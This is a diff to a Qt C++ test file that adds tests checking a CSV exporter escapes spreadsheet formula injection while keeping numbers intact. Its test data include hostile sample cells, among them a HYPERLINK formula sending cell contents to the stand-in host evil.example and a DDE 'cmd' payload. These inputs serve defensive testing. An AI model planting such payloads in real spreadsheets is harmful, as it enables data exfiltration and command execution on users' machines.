@@ -43,6 +43,8 @@ private Q_SLOTS:
 
     void csvField_isQuotedOnlyWhenItMustBe_data();
     void csvField_isQuotedOnlyWhenItMustBe();
+    void csvField_keepsSpreadsheetsFromRunningFormulas_data();
+    void csvField_keepsSpreadsheetsFromRunningFormulas();
     void csv_readsBackAsTheSameFields();
     void html_showsHostileTextAsText();
     void markdown_showsHostileTextAsText();
@@ -283,6 +285,36 @@ void TestExporters::csvField_isQuotedOnlyWhenItMustBe_data()
 }
 
 void TestExporters::csvField_isQuotedOnlyWhenItMustBe()
+{
+    QFETCH(QString, text);
+    QFETCH(QString, field);
+    QCOMPARE(CsvExporter::field(text), field);
+}
+
+// OWASP's CSV injection: a cell a spreadsheet would run starts with a quote; numbers stay numbers.
+void TestExporters::csvField_keepsSpreadsheetsFromRunningFormulas_data()
+{
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<QString>("field");
+    QTest::newRow("equals") << QStringLiteral("=1+1") << QStringLiteral("'=1+1");
+    QTest::newRow("HYPERLINK") << QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1)")
+                               << QStringLiteral("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"");
+    QTest::newRow("plus") << QStringLiteral("+1+1") << QStringLiteral("'+1+1");
+    QTest::newRow("minus, DDE") << QStringLiteral("-2+3+cmd|' /C calc'!A0") << QStringLiteral("'-2+3+cmd|' /C calc'!A0");
+    QTest::newRow("at") << QStringLiteral("@SUM(A1:A2)") << QStringLiteral("'@SUM(A1:A2)");
+    QTest::newRow("tab") << QStringLiteral("\t=1+1") << QStringLiteral("'\t=1+1");
+    QTest::newRow("carriage return") << QStringLiteral("\r=1+1") << QStringLiteral("\"'\r=1+1\"");
+    QTest::newRow("lone minus") << QStringLiteral("-") << QStringLiteral("'-");
+    QTest::newRow("minus and a word") << QStringLiteral("-not a number") << QStringLiteral("'-not a number");
+    QTest::newRow("number with exponent") << QStringLiteral("-1e5") << QStringLiteral("'-1e5");
+    QTest::newRow("number and a line") << QStringLiteral("-5\n=1+1") << QStringLiteral("\"'-5\n=1+1\"");
+    QTest::newRow("negative number") << QStringLiteral("-5") << QStringLiteral("-5");
+    QTest::newRow("negative decimal") << QStringLiteral("-0.25") << QStringLiteral("-0.25");
+    QTest::newRow("signed number") << QStringLiteral("+3") << QStringLiteral("+3");
+    QTest::newRow("formula later") << QStringLiteral("a=1+1") << QStringLiteral("a=1+1");
+}
+
+void TestExporters::csvField_keepsSpreadsheetsFromRunningFormulas()
 {
     QFETCH(QString, text);
     QFETCH(QString, field);
